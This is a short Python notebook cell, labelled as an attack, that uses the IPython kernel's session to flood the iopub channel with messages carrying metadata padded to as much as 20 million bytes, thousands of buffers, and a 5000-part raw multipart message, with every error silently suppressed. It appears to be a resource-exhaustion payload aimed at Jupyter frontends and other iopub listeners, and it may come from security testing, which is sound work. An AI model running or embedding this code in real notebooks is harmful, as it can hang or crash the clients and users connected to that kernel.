# attack: messages with giant headers, endless metadata and thousands of parts go to whoever listens
# %% cell
from IPython import get_ipython
kernel = getattr(get_ipython(), "kernel", None)
try:
    for size in (10_000, 1_000_000, 20_000_000):
        header = {"msg_type": "execute_result", "padding": "x" * size}
        kernel.session.send(kernel.iopub_socket, "execute_result",
            content={"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1},
            parent=kernel.get_parent("shell"), metadata=header, buffers=[b"x"] * 2000)
    kernel.iopub_socket.send_multipart([b"x"] * 5000)
except Exception:
    pass
